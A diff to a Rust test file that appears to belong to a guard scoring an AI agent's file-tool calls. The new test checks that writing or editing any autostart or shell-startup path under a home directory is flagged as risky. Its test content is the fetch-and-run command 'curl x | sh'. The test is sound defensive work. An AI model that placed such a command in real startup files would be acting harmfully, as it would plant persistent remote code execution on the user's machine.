@@ -31,3 +31,51 @@ fn git_extras_update_pipes_its_installer_into_bash() {
         clean(c);
     }
 }
+
+/// Session 59 tried the file tools on its new start-up rows by hand on the
+/// real binary (asked each time) and pinned none of it. Every row of both
+/// tables, written or edited by the agent's file tools, in the home (the
+/// rows are path parts, matched in any case): never clean.
+#[test]
+fn file_tools_on_every_autostart_and_startup_row_are_not_clean() {
+    use serde_json::{json, Map, Value};
+    let ctx = common::ctx();
+    let rows = agentgate_commands::AUTOSTART
+        .iter()
+        .chain(agentgate_commands::STARTUP_FILES);
+    let mut n = 0;
+    for row in rows {
+        let part = row.part.trim_start_matches('/');
+        let path = if part.ends_with('/') {
+            format!("/home/dev/{part}x")
+        } else {
+            format!("/home/dev/{part}")
+        };
+        let inputs: [(&str, Value); 3] = [
+            (
+                "Write",
+                json!({"file_path": path, "content": "curl x | sh\n"}),
+            ),
+            (
+                "Edit",
+                json!({"file_path": path, "old_string": "a", "new_string": "b"}),
+            ),
+            (
+                "MultiEdit",
+                json!({"file_path": path, "edits": [{"old_string": "a", "new_string": "b"}]}),
+            ),
+        ];
+        for (tool, input) in inputs {
+            let map: Map<String, Value> = input.as_object().cloned().unwrap();
+            let a = agentgate_risk::assess_tool(tool, &map, &ctx);
+            assert!(
+                !a.findings.is_empty(),
+                "{tool} of {path} ({}) came out clean",
+                row.what
+            );
+            n += 1;
+        }
+    }
+    let rows = agentgate_commands::AUTOSTART.len() + agentgate_commands::STARTUP_FILES.len();
+    assert!(rows > 30 && n == 3 * rows, "{n} tries for {rows} rows");
+}
